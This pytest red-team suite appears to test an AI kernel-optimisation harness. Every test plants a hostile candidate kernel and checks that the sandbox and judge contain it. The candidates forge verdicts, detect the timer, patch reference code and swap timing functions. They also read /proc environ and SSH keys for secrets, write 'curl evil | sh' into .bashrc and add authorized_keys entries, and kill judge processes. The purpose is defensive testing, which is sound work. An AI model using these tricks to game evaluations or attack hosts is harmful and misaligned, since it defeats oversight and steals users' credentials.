"""A hostile kernel.py against the whole harness: each candidate tries one way past it.

Every test plants a candidate written to get around the harness (not to make an honest
mistake), evaluates it through the real runner, judge and sandbox, and asserts two things:
the candidate is rejected or contained, and nothing outside its scratch folder changed (the
user's workspace and its git, a home folder with a key in it, the task's own files).

The engine's process holds a secret in its environment throughout (as a user's shell holds
ANTHROPIC_API_KEY); no report, tail or file may ever show it.

Set AUTOKERNEL_TEST_DEVICE=cuda to run the same suite on a GPU.
"""

from __future__ import annotations

import hashlib
import json
import os
import socket
import subprocess
import threading
import time
from pathlib import Path

import pytest

from autokernel_tui.harness.runner import Harness
from autokernel_tui.harness.static_check import check_source

from .conftest import GOOD, PREFIX, make_tiny_task

SECRET = "sk-ant-redteam-" + hashlib.sha256(b"not a real key").hexdigest()[:32]
DEVICE = os.environ.get("AUTOKERNEL_TEST_DEVICE", "cpu")


def _tree_digest(root: Path) -> dict[str, str]:
    out = {}
    for path in sorted(root.rglob("*")):
        if path.is_symlink():
            out[str(path)] = "link:" + os.readlink(path)
        elif path.is_file():
            out[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
        elif path.is_dir():
            out[str(path)] = "dir"
    return out


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    """What a hostile candidate wants: a workspace with git and run files, a home with keys, a socket."""
    root = tmp_path_factory.mktemp("world")
    ws = root / "workspace"
    (ws / ".autokernel" / "runs" / "t").mkdir(parents=True)
    subprocess.run(["git", "init", "-q", str(ws)], check=True)
    (ws / "kernels").mkdir()
    (ws / "kernels" / "note.txt").write_text("the user's own file\n")
    (ws / ".autokernel" / "runs" / "t" / "results.tsv").write_text("experiment\tstatus\n1\tkeep\n")
    (ws / ".autokernel" / "runs" / "t" / "events.jsonl").write_text('{"type": "run_started"}\n')
    home = root / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY----- " + SECRET + "\n")
    # The engine's real control channel, over an engine that records what reaches it.
    from autokernel_tui.engine.control import ControlServer

    class Engine:
        commands: list = []

        def subscribe(self, fn):
            return lambda: None

        def command(self, cmd, **kw):
            self.commands.append((cmd, kw))
            return {"ok": True}

    engine = Engine()
    control = ControlServer(engine, ws / ".autokernel" / "control.sock").start()
    tcp = socket.socket()
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(8)
    contacts: list[str] = []

    def accept(sock: socket.socket, what: str) -> None:
        sock.settimeout(0.2)
        while not stop.is_set():
            try:
                conn, _ = sock.accept()
            except OSError:
                continue
            contacts.append(what)
            conn.close()

    stop = threading.Event()
    threading.Thread(target=accept, args=(tcp, "tcp"), daemon=True).start()
    yield {"root": root, "ws": ws, "home": home, "sock": control.path, "port": tcp.getsockname()[1],
           "contacts": contacts, "engine": engine}
    stop.set()
    control.close()
    tcp.close()


@pytest.fixture(scope="module")
def red_harness(world):
    """The runner as the engine holds it: a secret in the environment, HOME and cwd the user's."""
    saved = {k: os.environ.get(k) for k in ("ANTHROPIC_API_KEY", "HOME", "AUTOKERNEL_CACHE_DIR")}
    cwd = os.getcwd()
    os.environ["ANTHROPIC_API_KEY"] = SECRET
    os.environ["HOME"] = str(world["home"])
    os.environ["AUTOKERNEL_CACHE_DIR"] = str(world["root"] / "harness-cache")  # the harness's own, not the home's
    os.chdir(world["ws"])
    h = Harness(timeout_s=60, device=DEVICE, sandbox=os.environ.get("AUTOKERNEL_TEST_SANDBOX", "auto"))
    try:
        yield h
    finally:
        h.close()
        os.chdir(cwd)
        for k, v in saved.items():
            if v is None:
                os.environ.pop(k, None)
            else:
                os.environ[k] = v


@pytest.fixture(scope="module")
def tiny_task(tmp_path_factory):
    """rmsnorm at two small shapes on either device (this module's own, overriding conftest's)."""
    return make_tiny_task(tmp_path_factory.mktemp("red") / "rmsnorm", tiny_on_gpu=True)


@pytest.fixture()
def guarded(world, red_harness, tiny_task):
    """Evaluate a hostile source; afterwards assert nothing of the user's changed and nothing leaked."""
    watched = [world["ws"], world["home"], tiny_task]
    before = {str(p): _tree_digest(p) for p in watched}
    contacts_before = len(world["contacts"])
    commands_before = len(world["engine"].commands)

    def evaluate(source: str, compare_with: str | None = None):
        result = (red_harness.compare(tiny_task, source, compare_with, quick=True) if compare_with
                  else red_harness.evaluate(tiny_task, kernel_source=source, quick=True))
        text = json.dumps(result.to_dict())
        assert SECRET not in text, "a secret reached the report"
        return result

    yield evaluate
    for p in watched:
        assert _tree_digest(p) == before[str(p)], f"{p} changed"
    assert world["contacts"][contacts_before:] == [], "the candidate reached a TCP port outside its sandbox"
    assert world["engine"].commands[commands_before:] == [], "the candidate steered the engine"


def hostile(body: str) -> str:
    """A candidate that passes every static rule, runs ``body`` (any Python at all) on its first
    call, and otherwise computes the right answer. The door: ``typing.sys`` gives ``sys``, whose
    ``modules`` give ``builtins``, whose ``exec`` runs anything (issue 18: static rules are a
    first filter, never the wall)."""
    src = PREFIX + f'''
import typing

_B = typing.sys.modules["builtins"]
_DONE = [False]
_BODY = {body!r}


def kernel_fn(x, weight, eps):
    if not _DONE[0]:
        _DONE[0] = True
        _B.exec(_BODY, {{"x": x, "weight": weight, "eps": eps}})
    return launch(x, weight, eps, torch.empty_like(x))
'''
    assert check_source(src) == [], check_source(src)  # else the static rules, not the sandbox, stopped it
    return src


def test_a_forged_reply_on_every_descriptor_never_becomes_a_verdict(guarded):
    # The old attack: the worker's reply fd was in sys.argv; write a PASS at 99x there, then die.
    src = hostile('''
import json, os, sys
fake = json.dumps({"ok": True, "id": 1, "report": {"status": "PASS", "summary": {"speedup_vs_baseline": 99.0}},
                   "times_us": [0.001], "status": "PASS", "speedup": 99.0}).encode()
frame = len(fake).to_bytes(4, "big") + fake
print("argv", sys.argv)
for fd in range(3, 256):
    try:
        os.write(fd, frame)
    except OSError:
        pass
os._exit(0)
''')
    report = guarded(src)
    assert report.status in ("CRASH", "FAIL", "REJECTED")
    assert report.summary is None and "resp-fd" not in report.stderr_tail


def test_patching_the_reference_changes_nothing_the_judge_sees(guarded, red_harness, tiny_task):
    src = PREFIX + '''
import typing

_B = typing.sys.modules["builtins"]
for _name, _mod in list(typing.sys.modules.items()):
    if _name.startswith("_autokernel_reference"):
        _B.setattr(_mod, "reference", lambda x, w, eps: x * 0)
        _B.setattr(_mod, "reference_precise", lambda x, w, eps: x.double() * 0)


def kernel_fn(x, weight, eps):
    launch(x, weight, eps, torch.empty_like(x))
    return torch.zeros_like(x)
'''
    assert check_source(src) == []
    report = guarded(src)
    assert report.status == "FAIL" and "wrong" in report.reason
    honest = red_harness.evaluate(tiny_task, kernel_source=GOOD, quick=True)
    assert honest.status == "PASS", honest.reason  # and nothing of the patch survived


# A candidate's helper: whether a function of one of ``names`` is on its call stack (the harness's timer).
ON_STACK = '''
import typing

_INSPECT = typing.sys.modules["inspect"]


def _on_stack(*names):
    f = _INSPECT.currentframe()
    while f is not None:
        if f.f_code.co_name in names:
            return True
        f = f.f_back
    return False
'''


def test_garbage_only_when_the_timer_is_on_the_stack_is_caught(guarded):
    src = PREFIX + ON_STACK + '''

def kernel_fn(x, weight, eps):
    return launch(x, weight, 1e9 if _on_stack("time_reps", "warm_up") else eps, torch.empty_like(x))
'''
    assert check_source(src) == []
    report = guarded(src)
    assert report.status == "REJECTED" and report.stage == "timing" and "timed run is wrong" in report.reason


def test_rewriting_harness_owned_files_on_disk_is_refused(guarded, tiny_task, red_harness):
    src = hostile('''
import glob, sys
targets = [m.__file__ for n, m in list(sys.modules.items()) if n.startswith("_autokernel_reference")]
targets += glob.glob("/tmp/autokernel-harness-*/scratch/task-*/*")
for path in targets:
    try:
        with open(path, "w") as fh:
            fh.write("def reference(x, w, eps):\\n    return x * 0\\n")
        print("REWROTE", path)
    except OSError as exc:
        print("refused", path, type(exc).__name__)
''')
    report = guarded(src)
    assert report.status == "PASS", report.reason  # it computes the right answer; it changed nothing
    assert "REWROTE" not in report.stderr_tail and "refused" in report.stderr_tail
    assert red_harness.evaluate(tiny_task, kernel_source=GOOD, quick=True).status == "PASS"


def test_git_workspace_and_home_are_out_of_reach(guarded, world):
    ws, home = world["ws"], world["home"]
    src = hostile(f'''
import os, subprocess
for path, text in [("{ws}/.git/hooks/pre-commit", "#!/bin/sh\\necho pwned\\n"),
                   ("{ws}/.autokernel/runs/t/results.tsv", "999\\tkeep\\n"),
                   ("{ws}/.autokernel/runs/t/events.jsonl", "{{}}\\n"),
                   ("{ws}/kernels/note.txt", "edited\\n"),
                   ("{home}/.ssh/authorized_keys", "ssh-rsa AAAA evil\\n"),
                   ("{home}/.bashrc", "curl evil | sh\\n")]:
    try:
        with open(path, "a") as fh:
            fh.write(text)
        print("WROTE", path)
    except OSError as exc:
        print("refused", type(exc).__name__)
try:
    out = subprocess.run(["git", "-C", "{ws}", "branch", "evil"], capture_output=True, text=True)
    print("git", out.returncode, out.stderr.strip()[:80])
except OSError as exc:
    print("git refused", type(exc).__name__)
''')
    report = guarded(src)
    assert "WROTE" not in report.stderr_tail and "refused" in report.stderr_tail


def test_secrets_are_not_in_reach_and_never_recorded(guarded, world):
    home = world["home"]
    src = hostile(f'''
import os
try:
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
except OSError:
    pids = [str(p) for p in range(1, 4096)]
for path in ["/proc/1/environ", "/proc/self/environ", "{home}/.ssh/id_rsa"] + [f"/proc/{{p}}/environ" for p in pids]:
    try:
        with open(path, "rb") as fh:
            data = fh.read()
        print("READ", path, "ANTHROPIC" in data.decode(errors="replace"))
    except OSError as exc:
        print("refused", path, type(exc).__name__)
print("MY-ENV-NAMES", ",".join(sorted(os.environ)))
''')
    report = guarded(src)  # the fixture asserts the secret's value is in no field of the report
    names = report.stderr_tail.split("MY-ENV-NAMES", 1)[1].split("\n", 1)[0]
    assert "ANTHROPIC_API_KEY" not in names and "HOME" in names
    assert "READ {home}/.ssh/id_rsa".format(home=home) not in report.stderr_tail
    assert " True" not in report.stderr_tail  # no readable environ holds the key's name


def test_the_secret_is_redacted_even_if_something_prints_it(red_harness, tiny_task):
    # A last line behind the sandbox: should the value reach the harness's log some other way,
    # the runner never hands it on. Here the runner's own environment value is echoed back.
    from autokernel_tui.redaction import redact
    assert SECRET not in redact(f"token={SECRET}")
    assert "[redacted ANTHROPIC_API_KEY]" in redact(f"token={SECRET}")


def test_a_setsid_grandchild_does_not_outlive_the_evaluation(guarded):
    marker = f"{time.time_ns() % 10**9}.4242"
    src = hostile(f'''
import os
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sleep", ["sleep", "{marker}"])
    os._exit(0)
''')
    report = guarded(src)
    assert report.status == "PASS", report.reason
    deadline = time.time() + 10
    while time.time() < deadline:
        alive = [p for p in os.listdir("/proc") if p.isdigit() and _cmdline_has(p, marker)]
        if not alive:
            break
        time.sleep(0.2)
    assert not alive, f"a candidate's grandchild survived: {alive}"


def _cmdline_has(pid: str, marker: str) -> bool:
    try:
        return marker in Path(f"/proc/{pid}/cmdline").read_bytes().decode(errors="replace")
    except OSError:
        return False


def test_the_control_socket_and_the_network_are_unreachable(guarded, world):
    src = hostile(f'''
import socket
for family, address in [(socket.AF_UNIX, "{world["sock"]}"), (socket.AF_INET, ("127.0.0.1", {world["port"]}))]:
    try:
        c = socket.socket(family, socket.SOCK_STREAM)
        c.settimeout(2)
        c.connect(address)
        c.sendall(b'{{"cmd": "set_policy", "policy": "auto"}}\\n')
        print("CONNECTED", address)
    except OSError as exc:
        print("refused", type(exc).__name__)
''')
    report = guarded(src)
    # With bwrap neither is even reachable; with Landlock alone the Unix socket is, but the engine
    # answers nothing without the token (the fixture asserts no command reached it).
    assert "CONNECTED ('127.0.0.1'" not in report.stderr_tail and "refused" in report.stderr_tail


def test_killing_the_judge_and_siblings_costs_only_this_candidate(guarded, red_harness, tiny_task):
    if os.environ.get("AUTOKERNEL_TEST_SANDBOX") == "off":
        pytest.skip("never run a process killer without its sandbox")
    # Aimed at the harness's own processes only (the zygote, the judge, sibling contestants), so
    # that even a run without the sandbox could not hurt anything else on the machine.
    src = hostile('''
import os, signal
def parent_of(pid):
    with open(f"/proc/{pid}/stat") as fh:
        return int(fh.read().rsplit(")", 1)[1].split()[1])
me, zygote = os.getpid(), os.getppid()
def siblings():
    out = []
    try:
        pids = os.listdir("/proc")
    except OSError:
        pids = []
    for p in pids:
        try:
            if p.isdigit() and int(p) != me and parent_of(int(p)) == zygote:
                out.append(int(p))
        except OSError:
            pass
    return out
try:
    judge = parent_of(zygote)
except OSError:
    judge = None
for pid in [zygote] + ([judge] if judge else []) + siblings():
    try:
        os.kill(pid, signal.SIGKILL)
        print("KILLED", pid)
    except OSError as exc:
        print("refused", type(exc).__name__)
''')
    report = guarded(src)
    assert report.status == "PASS" and "KILLED" not in report.stderr_tail, report.reason
    assert red_harness.evaluate(tiny_task, kernel_source=GOOD, quick=True).status == "PASS"


def test_a_reply_out_of_turn_is_a_crash_not_a_verdict(guarded):
    src = hostile('''
import json, os, socket
for fd in range(3, 64):
    try:
        socket.socket(fileno=os.dup(fd)).getsockname()
    except OSError:
        continue
    body = json.dumps({"ok": True, "id": -1, "times_us": [0.001]}).encode()
    os.write(fd, len(body).to_bytes(4, "big") + body)
''')
    report = guarded(src)
    assert report.status == "CRASH" and "out of turn" in report.reason


def test_a_huge_frame_is_refused_without_reading_it(guarded):
    src = hostile('''
import os, socket
for fd in range(3, 64):
    try:
        socket.socket(fileno=os.dup(fd)).getsockname()
    except OSError:
        continue
    os.write(fd, (1 << 31).to_bytes(4, "big") + b"{")
''')
    report = guarded(src)
    assert report.status == "CRASH" and "protocol" in report.reason


def test_poisoning_another_kernels_triton_cache_is_refused(guarded, red_harness, tiny_task):
    red_harness.evaluate(tiny_task, kernel_source=GOOD, quick=True)  # GOOD's cache exists now
    src = hostile('''
import glob, os
mine = os.environ["TRITON_CACHE_DIR"]
root = os.path.dirname(mine)
for d in glob.glob(root + "/*") + [os.path.join(root, "0" * 24)]:
    if d != mine:
        try:
            os.makedirs(d, exist_ok=True)
            with open(d + "/planted.so", "w") as fh:
                fh.write("evil")
            print("PLANTED", d)
        except OSError as exc:
            print("refused", type(exc).__name__)
''')
    report = guarded(src)
    assert "PLANTED" not in report.stderr_tail and "refused" in report.stderr_tail


def test_a_symlinked_output_file_is_not_followed(tmp_path):
    # On the CPU outputs travel as files of the contestant's scratch folder: a link planted in
    # their place, to a file of the right size outside it, is refused rather than read.
    import torch
    from autokernel_tui.harness.worker import transfer
    outside = tmp_path / "outside.bin"
    outside.write_bytes(b"\0" * 8)
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    (scratch / "out-last-0.bin").symlink_to(outside)
    desc = [{"shape": [2], "dtype": "float32", "device": "cpu", "file": "out-last-0.bin", "nbytes": 8}]
    with pytest.raises(transfer.TransferError):
        transfer.receive(desc, [{"shape": [2], "dtype": "float32", "device": "cpu"}], scratch)
    (scratch / "out-last-0.bin").unlink()
    torch.ones(2).numpy().tofile(scratch / "out-last-0.bin")
    got = transfer.receive(desc, [{"shape": [2], "dtype": "float32", "device": "cpu"}], scratch)
    assert got[0].tolist() == [1.0, 1.0]


def test_swapping_a_harness_functions_code_in_place_is_refused(guarded):
    # The function object stays (an identity check sees nothing); its __code__ reports every time / 1000.
    src = hostile(r"""
import sys
timing = sys.modules["autokernel_tui.harness.worker.timing"]
ns = {}
exec('''
def time_reps(fn, input_sets, flush, lead_us=0.0):
    outputs, times = [], []
    for inputs in input_sets:
        t0 = time.perf_counter()
        outputs.append(fn(*inputs))
        times.append((time.perf_counter() - t0) * 1e6 / 1000.0)
    return Samples(times), outputs
''', timing.__dict__, ns)
timing.time_reps.__code__ = ns["time_reps"].__code__
""")
    report = guarded(src)
    assert report.status == "REJECTED" and "time_reps.__code__" in report.reason


@pytest.mark.parametrize("how", ["_thread", "unwatched"])
def test_a_thread_started_around_the_thread_hook_is_refused(guarded, how):
    # Straight through _thread (threading's hook never sees it), or after emptying the harness's set of
    # candidate files (so no frame counts as the candidate's): a thread left running is work off the clock.
    body = {"_thread": "import _thread, time\n_thread.start_new_thread(time.sleep, (3600,))",
            "unwatched": "import sys, threading, time\n"
                         "sys.modules['autokernel_tui.harness.worker.guards']._CANDIDATE_FILES.clear()\n"
                         "threading.Thread(target=lambda: time.sleep(3600), daemon=True).start()"}[how]
    report = guarded(hostile(body))
    assert report.status == "REJECTED", report.reason
    assert ("started a thread" if how == "_thread" else "list of candidate files") in report.reason


def test_a_fifo_in_place_of_an_output_file_does_not_hold_the_judge(tmp_path):
    # Opening a FIFO for reading blocks until a writer comes: the judge would wait out its deadline.
    from autokernel_tui.harness.worker import transfer
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    os.mkfifo(scratch / "out-last-0.bin")
    desc = [{"shape": [2], "dtype": "float32", "device": "cpu", "file": "out-last-0.bin", "nbytes": 8}]
    t0 = time.monotonic()
    with pytest.raises(transfer.TransferError, match="not a plain file"):
        transfer.receive(desc, [{"shape": [2], "dtype": "float32", "device": "cpu"}], scratch)
    assert time.monotonic() - t0 < 5


def test_a_nondeterministic_kernel_that_replays_by_content_is_caught_in_its_timed_runs(guarded):
    # Random 1-ulp noise (as atomics give), hidden from the determinism stage, which runs the same inputs
    # twice back to back, by keeping the last output keyed on the inputs' bytes: a timed batch repeats an
    # earlier rep's inputs with another call between them, and the two must agree bitwise.
    src = PREFIX + '''
import typing

_B = typing.sys.modules["builtins"]
_G = {}
_B.exec("import random\\nG['seed'] = lambda: random.randrange(1 << 30)\\n"
        "G['key'] = lambda *a: tuple(t.contiguous().view(-1).view(torch.uint8).numpy().tobytes() "
        "if isinstance(t, torch.Tensor) else t for t in a)", {"G": _G, "torch": torch})
_MEMO = {}


@triton.jit
def _noise(Y, n, seed, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    m = offs < n
    y = tl.load(Y + offs, mask=m, other=0.0).to(tl.float32)
    y = y * tl.where(tl.rand(seed, offs) < 0.5, 1.001, 0.999)
    tl.store(Y + offs, y.to(Y.dtype.element_ty), mask=m)


def kernel_fn(x, weight, eps):
    y = launch(x, weight, eps, torch.empty_like(x))
    _noise[(triton.cdiv(y.numel(), 1024),)](y, y.numel(), _G["seed"](), BLOCK=1024)
    key = _G["key"](x.cpu(), weight.cpu(), eps)
    if key in _MEMO:
        y.copy_(_MEMO[key])
    _MEMO.clear()
    _MEMO[key] = y.clone()
    return y
'''
    assert check_source(src) == [], check_source(src)
    report = guarded(src)
    assert report.status == "FAIL" and report.stage == "determinism", report.reason
    assert "two timed calls on the same inputs" in report.reason


def test_a_kernel_wrong_on_adversarial_inputs_only_while_timed_is_caught(guarded):
    # Right in every check before timing; while timed (time_reps on the stack) it drops eps, which only the
    # task's adversarial inputs (tiny rows) expose: the timed batches hold each of them at a secret place,
    # their recipes gone before the candidate runs, and their fingerprints are checked.
    src = PREFIX + ON_STACK + '''

def kernel_fn(x, weight, eps):
    return launch(x, weight, 0.0 if _on_stack("time_reps") else eps, torch.empty_like(x))
'''
    assert check_source(src) == [], check_source(src)
    report = guarded(src)
    assert report.status == "REJECTED" and report.stage == "timing", report.reason
    assert "timed run is wrong" in report.reason


def test_a_call_names_no_stage_and_keeps_no_recipe_while_the_candidate_runs(guarded):
    # What a correctness call's request shows the candidate: the config, and nothing of the stage or of a
    # stability transform (the recipe is dropped before kernel_fn runs); the verdict still names both.
    src = PREFIX + '''
import typing

_INSPECT = typing.sys.modules["inspect"]
_G = {}
typing.sys.modules["builtins"].exec("G['big'] = lambda x: float(abs(x.cpu().numpy()).max()) > 100", {"G": _G})


def kernel_fn(x, weight, eps):
    f = _INSPECT.currentframe()
    while f is not None:
        seen = f.f_locals.get("msg")
        if isinstance(seen, dict) and seen.get("op") == "call":
            assert "stage" not in seen and "recipe" not in seen and "'" not in seen.get("where", ""), seen
            if f.f_locals.get("stage"):
                raise RuntimeError("a stage is named: " + f.f_locals["stage"])
        f = f.f_back
    if _G["big"](x):  # the 'large' transform's inputs (x 300): this kernel's one bug, found by their content
        raise RuntimeError("cannot handle large inputs")
    return launch(x, weight, eps, torch.empty_like(x))
'''
    assert check_source(src) == [], check_source(src)
    report = guarded(src)
    assert report.status == "FAIL" and report.stage == "stability", report.reason
    assert "'large'" in report.reason and "cannot handle large inputs" in report.reason


def test_a_process_left_running_beside_the_other_sides_timing_is_refused(guarded):
    # A child that would take the CPU (or the GPU) while the incumbent is timed makes an exact copy of it
    # look faster: the judge asks the zygote for strays after each side's timed calls.
    src = hostile("import os, time\nif os.fork() == 0:\n    time.sleep(3600)\n    os._exit(0)")
    result = guarded(src, compare_with=GOOD)
    assert result.status == "REJECTED" and "process(es) running" in result.reason, result.reason
    assert not result.faster


def test_without_bwrap_the_hosts_dev_shm_is_out_of_reach(tiny_task):
    # Landlock alone (no bwrap: no private /dev): writes to /dev are allowed only on the device files a
    # contestant opens, not the host's /dev/shm, where the same user's other programs keep shared memory.
    from autokernel_tui.harness.sandbox import landlock
    if landlock.abi_version() < 1:
        pytest.skip("Landlock is not available on this kernel")
    name = f"/dev/shm/autokernel-redteam-{os.getpid()}"
    src = hostile(f"try:\n    open({name!r}, 'w').write('planted')\nexcept OSError:\n    pass")
    with Harness(timeout_s=120, device="cpu", sandbox="landlock") as h:
        report = h.evaluate(tiny_task, kernel_source=src, quick=True)
    assert report.status == "PASS", report.reason  # the write was refused, the kernel itself is fine
    assert not os.path.exists(name)


def test_with_bwrap_the_dev_shm_a_contestant_writes_is_the_sandboxs_own(tiny_task):
    # Under bwrap a contestant may write /dev/shm (torch keeps a CUDA IPC handle's reference count
    # there): a tmpfs of the sandbox's own, so nothing it plants there reaches the host's.
    from autokernel_tui.harness.sandbox import bwrap
    why_not = bwrap.probe()
    if why_not is not None:
        pytest.skip(f"no bwrap here: {why_not}")
    name = f"/dev/shm/autokernel-redteam-bwrap-{os.getpid()}"
    src = hostile(f"open({name!r}, 'w').write('planted')")
    with Harness(timeout_s=120, device="cpu", sandbox="bwrap") as h:
        report = h.evaluate(tiny_task, kernel_source=src, quick=True)
    assert report.status == "PASS", report.reason  # the write succeeded, in the sandbox's /dev/shm
    assert not os.path.exists(name)
